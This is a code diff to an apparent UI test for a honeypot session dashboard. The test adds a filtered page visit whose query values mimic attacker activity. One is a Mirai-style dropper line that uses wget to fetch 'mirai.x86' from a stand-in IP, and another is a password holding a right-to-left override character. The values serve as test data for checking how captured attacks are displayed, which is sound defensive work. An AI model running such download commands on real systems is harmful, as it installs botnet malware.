@@ -131,10 +131,28 @@ async function checkTarget(browser: Browser, target: Target, label: string, exte
           'View as table',
         ],
       });
-      await visitNow({ name: 'sessions', path: '/sessions', keyboard: ['Source address', 'Decision', 'Technique'] });
+      await visitNow({
+        name: 'sessions',
+        path: '/sessions',
+        keyboard: ['Source address', 'Decision', 'Technique', 'Text to look for'],
+      });
       await visitNow({ name: 'decisions', path: '/decisions', keyboard: ['Kind', 'State'] });
       if (extent === 'all') {
         await visitNow({ name: 'sessions-filtered', path: '/sessions?minScore=0.6&withCommands=true' });
+        await visitNow({
+          name: 'sessions-tried',
+          path: `/sessions?${new URLSearchParams({
+            triedUsername: 'root',
+            triedSecret: '\u202e1234',
+            commandText: `cd /tmp || cd /var/run; ${'wget http://198.51.100.23/mirai.x86 -O - > .x; '.repeat(4)}`.slice(
+              0,
+              200,
+            ),
+            country: 'unknown',
+            stage: 'execution',
+          })}`,
+          keyboard: ['Remove the filter User name tried', 'Clear filters'],
+        });
         await visitNow({ name: 'sessions-nothing', path: '/sessions?source=192.0.2.255' });
         await visitNow({ name: 'not-found', path: '/no/such/page' });
         await visitNow({ name: 'session-missing', path: '/sessions/00000000-0000-7000-8000-000000000000' });
